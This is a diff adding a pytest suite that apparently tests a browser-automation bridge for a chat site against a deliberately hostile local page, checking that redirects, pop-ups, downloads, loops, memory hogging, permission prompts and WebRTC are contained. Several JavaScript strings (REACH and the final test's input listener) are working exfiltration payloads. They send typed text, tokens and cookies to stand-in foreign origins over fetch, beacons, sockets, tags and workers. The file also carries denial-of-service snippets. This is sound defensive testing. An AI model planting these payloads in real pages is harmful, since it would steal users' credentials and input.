@@ -1,0 +1,453 @@
+"""A page that is not to be trusted: it goes to other origins, opens windows, loads, allocates and loops without end."""
+
+from __future__ import annotations
+
+import asyncio
+import os
+import sys
+from contextlib import suppress
+from pathlib import Path
+
+import pytest
+from loguru import logger
+from openai import APIStatusError
+from playwright.async_api import Error as PlaywrightError
+
+from bridge.browser.browser import Chromium
+from bridge.errors import BridgeError
+from bridge.settings import BrowserSettings
+from bridge.sites.contract import Strayed
+from bridge.sites.deepseek.driver import Driver
+from bridge.telemetry import Telemetry, WorkerState
+from bridge.worker.session import open_session
+from tests.sites.test_driver_live import answer_to
+from tests.support.hostile import COOKIE, TOKEN, TURN, Packets, Run, bridge_to, foreign_origins, hostile_site, states
+from tests.support.live import settings_for
+
+PROMPT = "wq83hfkz0alx92mvnt6yrueo the quick brown fox keeps this for itself 71bd5c09aa4e"
+LIMIT = 20.0
+ACTIVATED = 5
+"""Seconds for which a page may do what needs a click, after one."""
+GREEDY = "const kept = []; setInterval(() => kept.push(new Uint8Array(2 ** 25).fill(1)), 100);"
+STORMS = ("for (;;) {}", "for (;;) alert('x')")
+CONNECT = """async port => {
+  const servers = [`stun:127.0.0.1:${port}`, `stun:localhost:${port}`];
+  const [one, other] = [0, 1].map(() => new RTCPeerConnection({iceServers: [{urls: servers}]}));
+  one.createDataChannel("x");
+  await one.setLocalDescription(await one.createOffer());
+  await other.setRemoteDescription(one.localDescription);
+  await other.setLocalDescription(await other.createAnswer());
+  await one.setRemoteDescription(other.localDescription);
+  const candidate = `candidate:1 1 udp 2113937151 127.0.0.1 ${port} typ host`;
+  for (const peer of [one, other]) await peer.addIceCandidate({candidate, sdpMLineIndex: 0});
+  await new Promise(done => setTimeout(done, 3000));
+}"""
+
+
+async def test_a_page_that_leaves_the_site_is_lost_and_opened_anew(tmp_path: Path, chromium: Chromium) -> None:
+    async with foreign_origins() as (foreign, _), hostile_site() as site, bridge_to(tmp_path, chromium, site) as run:
+        seen = len(run.facts.seen)
+        await site.order(f"location = '{foreign.url}'")
+        lost = await run.facts.state("alice", WorkerState.BROKEN, seen)
+        assert f"has left the site for {foreign.url}" in lost.reason
+        await run.facts.state("alice", WorkerState.READY, seen)
+        assert await run.ask(PROMPT) == answer_to(PROMPT)
+        assert foreign.asked.is_set()
+        assert foreign.pieces_of(PROMPT, TOKEN, COOKIE) == []
+
+
+@pytest.mark.parametrize(
+    "moment",
+    [
+        "addEventListener('input', () => { location = '%s'; }, {once: true, capture: true});",
+        "addEventListener('keydown', () => { location = '%s'; }, {once: true, capture: true});",
+        "setTimeout(() => { location = '%s'; }, 10);",
+    ],
+    ids=["when it is filled", "when the key comes", "at some moment"],
+)
+async def test_a_page_that_leaves_the_site_in_mid_prompt_takes_no_byte_of_it_along(
+    tmp_path: Path, chromium: Chromium, moment: str
+) -> None:
+    async with foreign_origins() as (foreign, _), hostile_site() as site, bridge_to(tmp_path, chromium, site) as run:
+        await site.order(f"document.querySelector('textarea').onkeydown = null; {moment % foreign.url}")
+        seen = len(run.facts.seen)
+        assert await run.ask(PROMPT) == answer_to(PROMPT)  # nothing was sent, so the page opened anew gets it
+        async with asyncio.timeout(LIMIT):
+            await foreign.asked.wait()
+        await run.facts.state("alice", WorkerState.BROKEN, seen)
+        assert len(site.received) == 1
+        assert foreign.pieces_of(PROMPT, TOKEN, COOKIE) == []
+
+
+async def test_an_answer_ends_with_the_document_that_asked_for_it_and_the_account_stays(
+    tmp_path: Path, chromium: Chromium
+) -> None:
+    async with hostile_site() as site, bridge_to(tmp_path, chromium, site) as run:
+        before = states(run.facts)
+        site.on_prompt = "location = 'http://localhost:1/'"
+        with pytest.raises(APIStatusError) as refused:
+            await run.ask(PROMPT)
+        assert refused.value.status_code == 502
+        assert "cannot be reached" in refused.value.message
+        site.on_prompt = ""
+        assert await run.ask(PROMPT) == answer_to(PROMPT)
+        assert states(run.facts) == before
+
+
+async def test_a_site_that_leads_to_another_one_needs_a_person_and_is_not_asked_again_and_again(
+    tmp_path: Path, chromium: Chromium
+) -> None:
+    async with foreign_origins() as (foreign, _), hostile_site() as site:
+        site.leads_to = foreign.url
+        async with bridge_to(tmp_path, chromium, site, WorkerState.CHALLENGED) as run:
+            assert states(run.facts) == [WorkerState.CHALLENGED]
+            assert site.loads == 1
+            with pytest.raises(APIStatusError, match="leads to"):
+                await run.ask(PROMPT)
+        assert foreign.pieces_of(PROMPT, TOKEN, COOKIE) == []
+
+
+async def test_a_site_that_leads_to_anothers_sign_in_is_one_to_log_in_to(tmp_path: Path, chromium: Chromium) -> None:
+    async with foreign_origins() as (foreign, _), hostile_site() as site:
+        site.leads_to = f"{foreign.url}/oauth/login?back=1"
+        async with bridge_to(tmp_path, chromium, site, WorkerState.LOGGED_OUT) as run:
+            assert states(run.facts) == [WorkerState.LOGGED_OUT]
+
+
+async def test_a_page_that_leaves_the_site_each_time_is_left_alone_after_the_third(
+    tmp_path: Path, chromium: Chromium
+) -> None:
+    async with foreign_origins() as (foreign, _), hostile_site() as site, bridge_to(tmp_path, chromium, site) as run:
+        site.on_load = f"setTimeout(() => {{ location = '{foreign.url}'; }}, 1500);"
+        await site.order("location.reload()")
+        await run.facts.state("alice", WorkerState.CHALLENGED)
+        assert states(run.facts).count(WorkerState.BROKEN) == 2
+        assert foreign.pieces_of(TOKEN, COOKIE) == []
+
+
+async def test_nothing_of_another_origin_gets_into_the_profile(tmp_path: Path, chromium: Chromium) -> None:
+    async with foreign_origins() as (foreign, _), hostile_site() as site, bridge_to(tmp_path, chromium, site) as run:
+        profile = run.store.load("alice")
+        async with open_session(chromium, profile, Driver, run.settings) as session:
+            await session.page.goto(foreign.url)
+            with pytest.raises(Strayed):
+                await session.capture(profile, LIMIT)
+            await session.page.goto(site.url)
+            captured = await session.capture(profile, LIMIT)
+        assert [one["origin"] for one in captured.storage_state["origins"]] == [site.url]
+        assert [cookie["domain"] for cookie in captured.storage_state["cookies"]] == ["127.0.0.1"]
+        assert set(captured.session_storage) == {site.url}
+
+
+async def test_a_password_is_not_typed_into_another_origins_form(tmp_path: Path, chromium: Chromium) -> None:
+    async with foreign_origins() as (foreign, _), hostile_site() as site, bridge_to(tmp_path, chromium, site) as run:
+        async with open_session(chromium, run.store.load("alice"), Driver, run.settings) as session:
+            await session.page.goto(foreign.url)
+            with pytest.raises(BridgeError, match="has left the site"):
+                await session.driver.sign_in("somebody@example.com", PROMPT)
+        assert foreign.pieces_of(PROMPT, "somebody@example.com") == []
+
+
+REACH = """async ([url, secret]) => {
+  const settled = work => Promise.race([work, new Promise(done => setTimeout(done, 3000))]).catch(() => null);
+  const loads = element => new Promise(done => {
+    element.onload = element.onerror = done;
+    document.body.append(element);
+  });
+  const made = (name, more) => Object.assign(document.createElement(name), more);
+  const socket = new WebSocket(url.replace("http", "ws") + "/?" + secret);
+  const sent = `{method: "POST", body: "${secret}", mode: "no-cors"}`;
+  const worker = `fetch("${url}/worker", ${sent}).finally(() => postMessage(1))`;
+  const thread = new Worker(URL.createObjectURL(new Blob([worker])));
+  navigator.sendBeacon(url + "/beacon", secret);
+  await Promise.all([
+    fetch(url, {method: "POST", body: secret, mode: "no-cors"}),
+    fetch(url + "/?" + secret, {headers: {authorization: secret}}),
+    loads(made("img", {src: `${url}/picture?${secret}`})),
+    loads(made("script", {src: `${url}/script?${secret}`})),
+    loads(made("iframe", {src: `${url}/frame?${secret}`})),
+    loads(made("link", {rel: "stylesheet", href: `${url}/style?${secret}`})),
+    new Promise(done => { socket.onclose = done; }),
+    new Promise(done => { thread.onmessage = done; }),
+  ].map(settled));
+}"""
+
+
+@pytest.mark.parametrize("keeps_folder", [False, True])
+async def test_no_byte_of_a_page_reaches_this_machine_beside_the_site_itself(
+    tmp_path: Path, chromium: Chromium, keeps_folder: bool
+) -> None:
+    async with foreign_origins() as (one, other), hostile_site() as site, bridge_to(tmp_path, chromium, site) as run:
+        browser = BrowserSettings(check_every=0.5, call_limit=3)
+        settings = run.settings.model_copy(update={"browser": browser})
+        profile = run.store.load("alice")
+        if keeps_folder:  # its browser gets the bounds at its start, and not with a context
+            profile = profile.model_copy(update={"user_data_dir": "alice-1"})
+            (settings.browser_folders / "alice-1").mkdir(parents=True)
+        own = Chromium(settings, Telemetry())
+        async with open_session(own if keeps_folder else chromium, profile, Driver, settings) as session:
+            for url in (one.url, other.url, one.url.replace("localhost", "127.0.0.1")):
+                await session.page.evaluate(REACH, [url, PROMPT.replace(" ", "-")])
+            with pytest.raises(PlaywrightError, match="net::"):
+                await session.page.goto(f"{one.url}/?{PROMPT}")
+        await own.close()
+        assert (one.connections, other.connections) == (0, 0)
+
+
+async def test_windows_that_a_page_opens_are_closed_and_downloads_refused(tmp_path: Path, chromium: Chromium) -> None:
+    async with hostile_site() as site, bridge_to(tmp_path, chromium, site) as run:
+        profile = run.store.load("alice")
+        async with open_session(chromium, profile, Driver, run.settings) as session:
+            await session.page.evaluate("() => { for (let n = 0; n < 5; n++) window.open('/?' + n); }")
+            async with session.page.expect_download() as downloading:
+                await session.page.evaluate(
+                    "() => Object.assign(document.createElement('a'), {href: '/big', download: 'big'}).click()"
+                )
+            assert await (await downloading.value).failure() is not None
+            async with asyncio.timeout(LIMIT):
+                while len(pages := session.context.pages) > 1:
+                    await asyncio.sleep(0.05)
+            assert pages == [session.page]
+
+
+@pytest.mark.parametrize("storm", STORMS)
+async def test_a_page_that_never_comes_to_rest_is_replaced(tmp_path: Path, chromium: Chromium, storm: str) -> None:
+    async with hostile_site() as site, bridge_to(tmp_path, chromium, site) as run:
+        seen = len(run.facts.seen)
+        await site.order(storm)
+        await run.facts.state("alice", WorkerState.BROKEN, seen)
+        await run.facts.state("alice", WorkerState.READY, seen)
+        assert await run.ask("hello") == answer_to("hello")
+
+
+async def test_a_page_that_loads_anew_without_end_costs_a_chat_and_the_account_is_back_when_that_is_over(
+    tmp_path: Path, chromium: Chromium
+) -> None:
+    async with hostile_site() as site, bridge_to(tmp_path, chromium, site) as run:
+        site.on_load = "setTimeout(() => location.reload(), 20)"
+        await site.order("location.reload()")
+        with pytest.raises(APIStatusError) as caught:
+            await run.ask("hello")
+        assert (caught.value.status_code, site.received) in ((502, []), (503, []))
+        site.on_load = ""
+        async with asyncio.timeout(3 * LIMIT):
+            while WorkerState.READY not in states(run.facts)[-1:] or not await answers(run):
+                await asyncio.sleep(0.1)
+        assert set(states(run.facts)) <= {WorkerState.STARTING, WorkerState.READY, WorkerState.BROKEN}
+        assert len(site.received) == 1
+
+
+async def answers(run: Run) -> bool:
+    """Tell whether there is an answer."""
+    with suppress(APIStatusError):
+        return await run.ask("hello") == answer_to("hello")
+    return False
+
+
+async def comes_back(run: Run) -> None:
+    """Ask until there is an answer, a few times: the page that is open may have been told to fail yet."""
+    for _ in range(4):
+        if await answers(run):
+            return
+    pytest.fail("the account did not come back")
+
+
+async def renderers_of(chromium: Chromium) -> int:
+    """Return how many processes show pages."""
+    return [kind for kind, _ in await chromium.processes()].count("renderer")
+
+
+async def test_a_page_that_allocates_without_end_is_ended_and_opened_anew_in_ever_longer_pauses(
+    tmp_path: Path,
+) -> None:
+    browser = BrowserSettings(check_every=0.5, call_limit=3, hosts="any", page_memory=600)
+    bounded = Chromium(settings_for(tmp_path / "own", browser=browser), Telemetry())
+    try:
+        async with hostile_site() as site, bridge_to(tmp_path, bounded, site, browser=browser) as run:
+            seen, site.on_load = len(run.facts.seen), GREEDY
+            await site.order(GREEDY)
+            lost = await run.facts.state("alice", WorkerState.BROKEN, seen)
+            assert "took more than 600 MiB of memory (browser.page_memory)" in lost.reason
+            await run.facts.state("alice", WorkerState.BROKEN, run.facts.seen.index(lost) + 1)
+            site.on_load = ""
+            await comes_back(run)
+            assert site.paths.count("/") <= 1 + states(run.facts).count(WorkerState.BROKEN)
+    finally:
+        await bounded.close()
+
+
+@pytest.mark.parametrize(
+    "nuisance",
+    [
+        "setInterval(() => window.open('/?window'), 300)",
+        "setInterval(() => Object.assign(document.createElement('a'), {href: '/big', download: 'big'}).click(), 100)",
+        "setInterval(() => { alert(1); confirm(2); prompt(3); }, 50); onbeforeunload = event => event.preventDefault()",
+        "setInterval(() => { location = 'mailto:a@example.com'; location = 'tel:1'; location = 'vscode://x'; }, 300)",
+        "setInterval(() => { print(); document.body.requestFullscreen(); document.body.requestPointerLock(); }, 300)",
+    ],
+    ids=["windows", "downloads", "dialogs", "other programs", "print, full screen, pointer"],
+)
+async def test_chats_go_on_on_a_page_that_is_a_nuisance(tmp_path: Path, chromium: Chromium, nuisance: str) -> None:
+    async with hostile_site() as site, bridge_to(tmp_path, chromium, site) as run:
+        await site.order(nuisance)
+        renderers = await renderers_of(chromium)
+        site.during, site.lasts = "1", 3
+        for number in range(3):
+            assert await run.ask(f"chat {number}") == answer_to(f"chat {number}")
+        if "alert" in nuisance:  # it may take all of the page's time; then another page takes its place
+            await run.facts.state("alice", WorkerState.READY)
+        else:
+            assert WorkerState.BROKEN not in states(run.facts)
+        assert await renderers_of(chromium) <= renderers + 1
+        assert sum("window" in path for path in site.paths) < 15, "one for a chat's own clicks and keys, not 3 a second"
+
+
+async def test_a_page_that_loops_in_mid_answer_costs_one_chat_at_most(tmp_path: Path, chromium: Chromium) -> None:
+    async with hostile_site() as site, bridge_to(tmp_path, chromium, site) as run:
+        seen, site.during = len(run.facts.seen), "for (;;) {}"
+        async with asyncio.timeout(TURN.silence + TURN.stop + LIMIT):
+            with suppress(APIStatusError):  # all of the answer, where it comes past the page, or an error
+                assert await run.ask("hello") == answer_to("hello")
+        site.during = ""
+        await run.facts.state("alice", WorkerState.BROKEN, seen)
+        await run.facts.state("alice", WorkerState.READY, seen)
+        assert await run.ask("hello") == answer_to("hello")
+
+
+async def test_a_page_gets_no_window_without_a_click_and_a_health_check_is_none(
+    tmp_path: Path, chromium: Chromium
+) -> None:
+    async with hostile_site() as site, bridge_to(tmp_path, chromium, site):
+        tries = "fetch('/opened?' + [1, 2, 3].filter(() => window.open('/?window')).length)"
+        await site.order(f"setTimeout(() => {tries}, {ACTIVATED * 1000 + 500})")
+        async with asyncio.timeout(ACTIVATED + LIMIT):
+            while not (opened := [path for path in site.paths if "opened" in path]):
+                await asyncio.sleep(0.05)
+        assert opened == ["/opened?0"]
+        assert not any("window" in path for path in site.paths)
+
+
+@pytest.mark.parametrize("policy", ["public", "named"])
+async def test_no_packet_of_webrtc_reaches_this_machine(tmp_path: Path, chromium: Chromium, policy: str) -> None:
+    async with hostile_site() as site, bridge_to(tmp_path, chromium, site) as run:
+        settings = run.settings.model_copy(update={"browser": BrowserSettings.model_validate({"hosts": policy})})
+        packets: list[bytes] = []
+        loop = asyncio.get_running_loop()
+        transport, _ = await loop.create_datagram_endpoint(lambda: Packets(packets), local_addr=("127.0.0.1", 0))
+        port = transport.get_extra_info("sockname")[1]
+        async with open_session(chromium, run.store.load("alice"), Driver, settings) as session:
+            await session.page.evaluate(CONNECT, port)
+        transport.close()
+        assert packets == []
+
+
+async def test_a_proxy_of_the_operators_own_is_said_to_decide_what_pages_reach(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("HTTPS_PROXY", "http://127.0.0.1:9")
+    lines: list[str] = []
+    sink = logger.add(lines.append, level="WARNING", format="{message}")
+    own = Chromium(settings_for(tmp_path), Telemetry())
+    try:
+        for _ in range(2):
+            async with own.context({}):
+                pass
+    finally:
+        logger.remove(sink)
+        await own.close()
+    (said,) = [line for line in lines if "proxy" in line]
+    assert "browser.hosts has no effect" in said
+
+
+@pytest.mark.skipif(sys.platform != "linux", reason="other systems start programs in other ways")
+async def test_a_page_starts_no_other_program(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    trace = tmp_path / "trace"
+    for name in ("xdg-open", "xdg-email"):
+        program = tmp_path / "bin" / name
+        program.parent.mkdir(exist_ok=True)
+        program.write_text(f"#!/bin/sh\necho $0 $@ >> {trace}\n")
+        program.chmod(0o700)
+    monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}:{os.environ['PATH']}")
+    own = Chromium(settings_for(tmp_path), Telemetry())
+    try:
+        async with hostile_site() as site, bridge_to(tmp_path, own, site) as run:
+            for scheme in ("mailto:a@example.com", "tel:1", "vscode://x"):
+                await site.order(f"location = '{scheme}'; setTimeout(() => fetch('/went'), 1500)")
+                async with asyncio.timeout(LIMIT):
+                    while "/went" not in site.paths:
+                        await asyncio.sleep(0.05)
+                site.paths.clear()
+                site.listening.set()
+            assert await run.ask("hello") == answer_to("hello")
+    finally:
+        await own.close()
+    assert not trace.exists(), trace.read_text()
+
+
+PERMISSIONS = {
+    "place": "new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail))",
+    "notifications": "Notification.requestPermission().then(how => how === 'granted' || Promise.reject(how))",
+    "camera": "navigator.mediaDevices.getUserMedia({video: true})",
+    "microphone": "navigator.mediaDevices.getUserMedia({audio: true})",
+    "clipboard": "navigator.clipboard.readText()",
+    "midi": "navigator.requestMIDIAccess()",
+    "fonts": "queryLocalFonts().then(found => found.length || Promise.reject())",
+    "files": "showOpenFilePicker()",
+    "folders": "showDirectoryPicker()",
+    "screens": "getScreenDetails()",
+    "storage for ever": "navigator.storage.persist().then(how => how || Promise.reject())",
+}
+
+
+async def test_what_a_person_would_have_to_allow_is_denied(tmp_path: Path) -> None:
+    browser = BrowserSettings(args=("--use-fake-device-for-media-stream",), call_limit=3)
+    own = Chromium(settings_for(tmp_path, browser=browser), Telemetry())
+    try:
+        async with (
+            hostile_site() as site,
+            bridge_to(tmp_path, own, site) as run,
+            open_session(own, run.store.load("alice"), Driver, run.settings) as session,
+        ):
+            for what, asking in PERMISSIONS.items():
+                async with asyncio.timeout(LIMIT):
+                    got = await session.page.evaluate(f"() => {asking}.then(() => 'granted', () => 'denied')")
+                assert got == "denied", what
+    finally:
+        await own.close()
+
+
+async def test_a_page_that_does_all_of_it_with_what_is_typed_gets_no_byte_out_and_hurts_no_later_chat(
+    tmp_path: Path,
+) -> None:
+    browser = BrowserSettings(check_every=0.5, call_limit=3, page_memory=700)
+    own = Chromium(settings_for(tmp_path / "own", browser=browser), Telemetry())
+    packets: list[bytes] = []
+    loop = asyncio.get_running_loop()
+    transport, _ = await loop.create_datagram_endpoint(lambda: Packets(packets), local_addr=("127.0.0.1", 0))
+    port = transport.get_extra_info("sockname")[1]
+    try:
+        async with foreign_origins() as (foreign, other), hostile_site() as site:
+            site.on_load = f"""addEventListener("input", event => {{
+              const secret = encodeURIComponent(event.target.value + localStorage.userToken + document.cookie);
+              for (const url of ["{foreign.url}", "{other.url.replace("localhost", "127.0.0.1")}"]) {{
+                ({REACH})([url, secret]);
+                open(url + "/?" + secret);
+                open("/window");
+                fetch("/leads?to=" + url, {{method: "POST", body: secret}});
+              }}
+              ({CONNECT})({port});
+            }}, true);"""
+            async with bridge_to(tmp_path, own, site, browser=browser) as run:
+                for act in ("1", f"location = '{foreign.url}/?' + localStorage.userToken", *STORMS, GREEDY):
+                    site.during = act
+                    with suppress(APIStatusError):
+                        assert await run.ask(PROMPT) == answer_to(PROMPT)
+                site.on_load = site.during = ""
+                await site.order("location.reload()")
+                await comes_back(run)
+            assert len(site.received) >= 3
+            assert (foreign.pieces_of(PROMPT, TOKEN, COOKIE), other.pieces_of(PROMPT, TOKEN, COOKIE)) == ([], [])
+            assert (foreign.connections, other.connections, packets) == (0, 0, [])
+    finally:
+        transport.close()
+        await own.close()
